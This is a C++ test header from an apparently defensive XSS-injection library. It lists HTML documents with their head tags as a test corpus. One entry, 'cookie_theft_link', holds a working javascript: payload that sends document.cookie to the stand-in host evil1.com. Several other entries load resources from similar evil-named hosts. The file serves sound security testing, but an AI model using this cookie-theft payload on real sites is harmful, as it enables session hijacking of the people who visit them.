// Copyright 2026 The xssguard Authors. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Documents with a head element. For each, `head_open` is the exact head
// start tag the payload must follow.

#ifndef XSSGUARD_TESTS_SUPPORT_INJECTION_CORPUS_H_
#define XSSGUARD_TESTS_SUPPORT_INJECTION_CORPUS_H_

#include <string>
#include <vector>

namespace xssguard::testing {

struct InjectionCase {
  std::string name;
  std::string document;
  std::string head_open;
};

inline std::vector<InjectionCase> InjectionCorpus() {
  return {
      {"minimal", "<html><head></head><body></body></html>", "<head>"},
      {"doctype", "<!DOCTYPE html>\n<html>\n<head>\n<title>t</title>\n</head>"
                  "\n<body>x</body>\n</html>\n",
       "<head>"},
      {"uppercase", "<HTML><HEAD><TITLE>T</TITLE></HEAD><BODY></BODY></HTML>",
       "<HEAD>"},
      {"head_attributes",
       "<html lang=\"en\"><head profile=\"http://x.example/p\" data-a='1'>"
       "<meta charset=\"utf-8\"></head><body></body></html>",
       "<head profile=\"http://x.example/p\" data-a='1'>"},
      {"comment_before_head",
       "<html><!-- <head> in a comment --><head class=real><title>c</title>"
       "</head></html>",
       "<head class=real>"},
      {"script_after_head",
       "<html><head><script>document.title = window.name;</script></head>"
       "<body></body></html>",
       "<head>"},
      {"header_element_is_not_head",
       "<html><head></head><body><header>h</header></body></html>", "<head>"},
      {"frameset_page",
       "<html><head><title>frames</title></head>"
       "<frameset cols=\"25%,75%\"><frame src=\"nav.html\">"
       "<frame src=\"main.html\" name=\"classFrame\"></frameset></html>",
       "<head>"},
      {"whitespace_in_tag", "<html><head\n  class=\"x\"\n><title>w</title></head>",
       "<head\n  class=\"x\"\n>"},
      {"cookie_theft_link",
       "<html><head></head><body><a href=\"javascript:document.location="
       "'http://evil1.com/steal-cookie.php?'+document.cookie\">Click</a>"
       "</body></html>",
       "<head>"},
      {"popup_page",
       "<html><head><script>var n = window.name;</script></head>"
       "<body onload=\"report(n)\"></body></html>",
       "<head>"},
      {"crlf_lines", "<html>\r\n<head>\r\n<title>crlf</title>\r\n</head>\r\n"
                     "<body>\r\n</body>\r\n</html>\r\n",
       "<head>"},
      {"binary_safe",
       std::string("<html><head></head><body>\x01\x02\xff\xfe") +
           std::string(1, '\0') + "tail</body></html>",
       "<head>"},
      {"latin1_text", "<html><head><title>caf\xe9</title></head>"
                      "<body>na\xefve</body></html>",
       "<head>"},
      {"no_html_tag", "<head><title>bare</title></head><p>x</p>", "<head>"},
      {"self_closing_head", "<html><head/><body></body></html>", "<head/>"},
      {"style_before_title",
       "<html><head><style>body{background:url(http://evil1.com/b.png)}"
       "</style></head></html>",
       "<head>"},
      {"second_head_ignored",
       "<html><head id=\"one\"></head><body><head id=\"two\"></head></body>"
       "</html>",
       "<head id=\"one\">"},
      {"large_body",
       "<html><head></head><body>" + std::string(200000, 'x') +
           "</body></html>",
       "<head>"},
      {"multi_domain", "<html><head><title>Multi domain</title></head><body>\n"
                  "<img src = http://evil1.com/a.jpg>\n"
                  "<img src = http://evil8.com/h.jpg>\n</body></html>\n",
       "<head>"},
  };
}

}  // namespace xssguard::testing

#endif  // XSSGUARD_TESTS_SUPPORT_INJECTION_CORPUS_H_
